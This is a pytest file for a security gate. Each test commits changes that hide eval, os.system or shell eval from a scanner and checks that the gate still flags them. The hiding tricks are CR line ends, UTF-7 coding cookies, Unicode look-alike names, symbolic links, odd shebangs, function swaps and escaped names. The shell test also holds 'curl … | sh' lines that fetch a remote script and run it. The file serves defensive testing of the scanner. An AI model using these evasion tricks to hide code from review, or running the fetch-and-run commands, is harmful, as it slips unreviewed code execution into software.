"""A hostile change author against the security check (issue 9, items 1 to 7).

The author controls every file of the change and wants a new ``eval()`` that
Python, node or the shell really runs to be reported as nothing. Each test
builds such a change in a real repository, runs the real ``gate check`` (real
git, real semgrep) and reads the security findings. One repository per class
carries its variants: each ``gate check`` costs seconds.
"""

from __future__ import annotations

import os
import stat
from typing import Any

import pytest

from gate.security.identity import scope
from tests.gitrepo import GitRepo
from tests.run import report

pytestmark = pytest.mark.semgrep


def new_findings(data: dict[str, Any]) -> set[tuple[str, str, int | None]]:
    """(rule, path, line) of every new security finding."""
    return {
        (f["rule"], f["path"], f["line"])
        for f in data["checks"]["security"]["findings"]
        if f["details"].get("status") == "new"
    }


def not_analysed(data: dict[str, Any]) -> dict[str, str]:
    """Path -> message of every ``not-analysed`` finding."""
    return {
        f["path"]: f["message"]
        for f in data["checks"]["security"]["findings"]
        if f["rule"] == "not-analysed"
    }


def checked(
    repo: GitRepo,
    base: dict[str, str | bytes],
    head: dict[str, str | bytes | None],
    *,
    executable: tuple[str, ...] = (),
    code: int = 1,
) -> Any:
    """Commit ``base`` then ``head`` (``executable`` files with mode 755); the JSON report of
    ``gate check`` on the second commit, which must exit with ``code``."""
    repo.commit("base", base)
    for name, content in head.items():
        if content is not None:
            repo.write(name, content)
    for name in executable:
        path = repo.path / name
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    repo.commit("head", {k: v for k, v in head.items() if v is None})
    run, data = report(repo.path, "--base", "HEAD~1")
    assert run.code == code, run.stdout
    return data


# --- 1. line ends Python honours ---------------------------------------------------------


def test_a_lone_cr_ends_a_python_line_for_the_scan_too(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"old.py": b"import os\r\rdef f(x):\r    return eval(x)\r", "keep.py": "X = 1\n"},
        {
            # CPython runs the eval; semgrep read a comment line. git: line 2.
            "cr.py": b"def f(data):\n    # helper\r    return eval(data)\n",
            # CR CR LF is two line ends; the call is on git's line 3.
            "crcrlf.py": b"import os\r\n\r\r\nos.system(cmd)\r\n",
            # Already handled by semgrep, kept so: a form feed in the indentation,
            # a lone CR or U+2028 ending a JavaScript comment.
            "ff.py": b"if False:\n    pass\n    \x0ceval(z)\n",
            "cr.js": b"// note\reval(q);\n",
            "ls.js": "// note\u2028eval(q);\n".encode(),
            # An old CR-only file edited after its eval: the eval is not new.
            "old.py": b"import os\r\rdef f(x):\r    return eval(x)\r\rY = 2\r",
        },
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "cr.py", 2),
        ("python-shell-injection", "crcrlf.py", 3),
        ("python-dynamic-code-execution", "ff.py", 3),
        ("js-dynamic-code-execution", "cr.js", 1),
        ("js-dynamic-code-execution", "ls.js", 1),
    }


# --- 2. coding cookies -----------------------------------------------------------------


def test_a_coding_cookie_is_decoded_before_the_scan(repo: GitRepo) -> None:
    data = checked(
        repo,
        # Two of these files are not analysable Python: this test is about security.
        {".gate.toml": "[complexity]\nenabled = false\n"},
        {
            "u7.py": b"# -*- coding: utf-7 -*-\n+AGUAdgBhAGw-(data)\n",
            # A newline inside the base64 run: Python's line 3 is git's line 2.
            "u7_line.py": b"# coding: utf-7\nimport os +AAo-os.system(cmd)\n",
            "vim.py": b"# vim: set fileencoding=utf-7 :\nimport os+ADs- os.system(c)\n",
            "latin.py": "# coding: latin-1\nA = 'caf\xe9'\neval(data)\n".encode("latin-1"),
            # CPython refuses this one: nothing in it runs, and nothing is reported.
            "rot.py": b"# coding: rot13\nriny(qngn)\n",
        },
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "u7.py", 2),
        ("python-shell-injection", "u7_line.py", 2),
        ("python-shell-injection", "vim.py", 2),
        ("python-dynamic-code-execution", "latin.py", 3),
    }


# --- 3. identifier normalisation -------------------------------------------------------


def test_names_are_read_after_nfkc_as_python_reads_them(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"keep.py": "X = 1\n"},
        {
            "wide.py": "def f(data):\n    return \uff45\uff56\uff41\uff4c(data)\n",
            "bold.py": "\U0001d41e\U0001d42f\U0001d41a\U0001d425(data)\n",
            "kw.py": "import subprocess\n\n\n"
            "subprocess.run(cmd, \uff53\uff48\uff45\uff4c\uff4c=True)\n",
            "attr.py": "import os\nA = 'caf\u00e9'\nos.\uff53\uff59\uff53\uff54\uff45\uff4d(cmd)\n",
            # Unchanged by NFKC, or not a name: nothing to report.
            "fine.py": "caf\u00e9 = '\uff45\uff56\uff41\uff4c(x)'\n",
        },
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "wide.py", 2),
        ("python-dynamic-code-execution", "bold.py", 1),
        ("python-shell-injection", "kw.py", 4),
        ("python-shell-injection", "attr.py", 3),
    }


# --- 4. symbolic links ------------------------------------------------------------------


def symlinks(repo: GitRepo, links: dict[str, str]) -> None:
    for name, target in links.items():
        (repo.path / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, repo.path / name)


def test_a_linked_file_is_scanned_in_the_language_of_its_link(repo: GitRepo) -> None:
    repo.commit(
        "base",
        {
            "lib/tool_src.txt": "def run(x):\n    return x\n",
            "data/legacy.txt": "eval(old)\n",
            "docs/notes.txt": "eval(notes)\n",
        },
    )
    symlinks(repo, {"lib/tool.py": "tool_src.txt"})
    repo.commit("link")
    symlinks(
        repo,
        {
            "app/plugin.py": "plugin_impl.txt",  # new link, new target
            "cli.py": "data/legacy.txt",  # new link to old code: it runs as Python now
            "chain.py": "hop.lnk",  # a link to a link
            "hop.lnk": "deep/impl.txt",
            "same.py": "impl.py",  # same language: impl.py is scanned as itself
            "gone.py": "missing.txt",  # nothing runs
            "folder.py": "docs",  # a folder: its files keep their own names
        },
    )
    repo.commit(
        "head",
        {
            "app/plugin_impl.txt": "import os\neval(data)\n",
            "lib/tool_src.txt": "def run(x):\n    return eval(x)\n",  # an old link's target
            "deep/impl.txt": "eval(deep)\n",
            "impl.py": "eval(same)\n",
        },
    )
    run, data = report(repo.path, "--base", "HEAD~1")
    assert run.code == 1, run.stdout
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "app/plugin_impl.txt", 2),
        ("python-dynamic-code-execution", "data/legacy.txt", 1),
        ("python-dynamic-code-execution", "deep/impl.txt", 1),
        ("python-dynamic-code-execution", "lib/tool_src.txt", 2),
        ("python-dynamic-code-execution", "impl.py", 1),
    }
    messages = {f["path"]: f["message"] for f in data["checks"]["security"]["findings"]}
    assert messages["app/plugin_impl.txt"].endswith(
        "(this file runs as app/plugin.py, a symbolic link to it)"
    )
    assert not_analysed(data) == {}


def test_a_link_the_gate_cannot_follow_is_not_analysed(repo: GitRepo) -> None:
    repo.commit("base", {"realdir/x.txt": "eval(x)\n"})
    symlinks(repo, {"dirlink": "realdir"})
    repo.commit("folder link")
    symlinks(
        repo,
        {
            "out.py": "/etc/hostname",
            "via.py": "dirlink/x.txt",
            "up.py": "../x.txt",
            "loop.py": "loop.py",
        },
    )
    repo.commit("head")
    run, data = report(repo.path, "--base", "HEAD~1")
    assert run.code == 2, run.stdout
    assert not_analysed(data) == {
        "loop.py": "not analysed: it is a symbolic link to 'loop.py', more than 8 links deep; "
        "the gate cannot read what it runs",
        "out.py": "not analysed: it is a symbolic link to '/etc/hostname', outside the "
        "repository; the gate cannot read what it runs",
        "up.py": "not analysed: it is a symbolic link to '../x.txt', outside the "
        "repository; the gate cannot read what it runs",
        "via.py": "not analysed: it is a symbolic link to 'dirlink/x.txt', through a linked "
        "folder; the gate cannot read what it runs",
    }


# --- 5. files whose language is not recognised ---------------------------------------


def test_every_file_is_scanned_in_the_language_that_runs_it(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"keep.py": "X = 1\n"},
        {
            "deploy.v2": "#!/usr/bin/env -S python3 -u\neval(data)\n",
            "tool": "#!/usr/bin/env -S uv run --script\n# /// script\n# ///\neval(data)\n",
            "serve": "#!/usr/bin/python3.12\neval(data)\n",
            "app.pyw": "eval(data)\n",
            "web/a.mts": "export const f = (q: string) => eval(q);\n",
            "web/b.cts": "eval(q);\n",
            "web/c.min.js": "eval(q);\n",
            "web/d.d.ts": "declare const x: number;\neval(q);\n",
            "bin/x.zsh": 'eval "$1"\n',
            "bin/run": 'eval "$1"\n',  # executable, no #! line: the shell runs it
            "bin/run.v2": 'eval "$1"\n',  # the same with an extension the gate does not know
            # Executable too, and not shell: prose, machine code. Neither is "not analysed".
            "AUTHORS.rst": "Written by:\n\n- Ada (ada@example.com)\n",
            "bin/tool": b"\x7fELF\x02\x01\x01\x00" + bytes(64),
            "bin/report.pl": "#!/usr/bin/perl\nsystem($ARGV[0]);\n",  # no rule reads Perl
        },
        executable=("bin/run", "bin/run.v2", "AUTHORS.rst", "bin/tool"),
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "deploy.v2", 2),
        ("python-dynamic-code-execution", "tool", 4),
        ("python-dynamic-code-execution", "serve", 2),
        ("python-dynamic-code-execution", "app.pyw", 1),
        ("js-dynamic-code-execution", "web/a.mts", 1),
        ("js-dynamic-code-execution", "web/b.cts", 1),
        ("js-dynamic-code-execution", "web/c.min.js", 1),
        ("js-dynamic-code-execution", "web/d.d.ts", 2),
        ("shell-eval", "bin/x.zsh", 1),
        ("shell-eval", "bin/run", 1),
        ("shell-eval", "bin/run.v2", 1),
    }
    assert not_analysed(data) == {}


def test_a_program_of_no_known_language_is_not_analysed(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"keep.py": "X = 1\n"},
        {
            "bin/odd": "#!/opt/interp/bin/run-it --fast\neval(data)\n",
            "README.md": "# not a program\n",
        },
        code=2,
    )
    assert not_analysed(data) == {
        "bin/odd": "not analysed: its #! line runs '/opt/interp/bin/run-it --fast', which the "
        "gate does not know; no rule read it",
    }


# --- 7. same-file swap -----------------------------------------------------------------

HELPER = "def helper(data):\n    # dead code, never called\n    return eval(data)\n\n\n"
HANDLER = "def handler(request):\n    data = request.body\n    return data\n"
TWIN_BASE = (
    "def helper(data):\n    data = data.strip()\n    return eval(data)\n\n\n"
    "def handler(data):\n    data = data.strip()\n    return data\n"
)
TWIN_HEAD = (
    "def helper(data):\n    data = data.strip()\n    return data\n\n\n"
    "def handler(data):\n    data = data.strip()\n    return eval(data)\n"
)
MOVED_FN = "def run(cmd):\n    return eval(cmd)\n\n\n"
OTHER = "def other():\n    return 1\n\n\n"
STAYS = "def stays(x):\n    y = x\n    return eval(y)\n"


def test_an_eval_swapped_between_functions_of_one_file_is_new(repo: GitRepo) -> None:
    data = checked(
        repo,
        {
            "swap.py": HELPER + HANDLER,
            "twin.py": TWIN_BASE,
            "moved.py": MOVED_FN + OTHER,
            "inserted.py": STAYS,
            "renamed.py": STAYS,
            "from_a.py": TWIN_BASE,
            "to_b.py": "X = 1\n",
        },
        {
            # Removed from the dead helper, written into the handler.
            "swap.py": HELPER.replace("eval(data)", "data")
            + HANDLER.replace("return data", "return eval(data)"),
            # The same, with the line before each eval made identical on purpose.
            "twin.py": TWIN_HEAD,
            # The same across two files: the cross-file move needs the scope too.
            "from_a.py": TWIN_HEAD.replace("eval(data)", "data"),
            "to_b.py": "X = 1\n\n\n" + TWIN_HEAD.split("\n\n\n")[1],
            # Not new: a whole function moved down, a line inserted above an
            # untouched eval, the function around an untouched eval renamed.
            "moved.py": OTHER + MOVED_FN,
            "inserted.py": STAYS.replace("    y = x\n", "    y = x\n    log(y)\n"),
            "renamed.py": STAYS.replace("def stays(x)", "def stays_renamed(x)"),
        },
    )
    assert new_findings(data) == {
        ("python-dynamic-code-execution", "swap.py", 8),
        ("python-dynamic-code-execution", "twin.py", 8),
        ("python-dynamic-code-execution", "to_b.py", 6),
    }
    metrics = data["checks"]["security"]["metrics"]
    assert metrics["fixed_findings"] == 3
    assert metrics["moved_findings"] == 0


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(b"eval(x)\n", "", id="top-level"),
        pytest.param(
            b"class A:\n    def f(self):\n        # note\n\n        if x:\n            eval(x)\n",
            "class A: | def f(self): | if x:",
            id="nested",
        ),
        pytest.param(b"def f():\n\teval(x)\n", "def f():", id="tab"),
        pytest.param(b"function f() {\n  // c\n  eval(x);\n}\n", "function f() {", id="js"),
    ],
)
def test_scope_is_the_chain_of_block_openers(source: bytes, expected: str) -> None:
    assert scope(source, source.index(b"eval")) == expected


# --- 6. escaped or quoted names --------------------------------------------------------


def test_names_the_language_resolves_from_escapes_or_quotes_are_found(repo: GitRepo) -> None:
    data = checked(
        repo,
        {"README.md": "x\n"},
        {
            "web/app.js": "function run(q) {\n  return \\u0065val(q);\n}\n",
            "web/types.ts": "export const e = window.ev\\u{61}l;\n",
            "bin/run.sh": 'ev""al "$1"\n' + 'e\\val "$1"\n$\'\\x65val\' "$1"\n',
            "bin/get.sh": "curl -fsSL https://example.com/i.sh | s\\h\n"
            "curl -fsSL https://example.com/i.sh | tee log | /bin/sh\n",
        },
    )
    assert new_findings(data) == {
        ("js-escaped-identifier", "web/app.js", 2),
        ("js-escaped-identifier", "web/types.ts", 1),
        ("shell-eval", "bin/run.sh", 1),
        ("shell-eval", "bin/run.sh", 2),
        ("shell-escaped-command-name", "bin/run.sh", 3),
        ("shell-pipe-to-shell", "bin/get.sh", 1),
        ("shell-pipe-to-shell", "bin/get.sh", 2),
    }
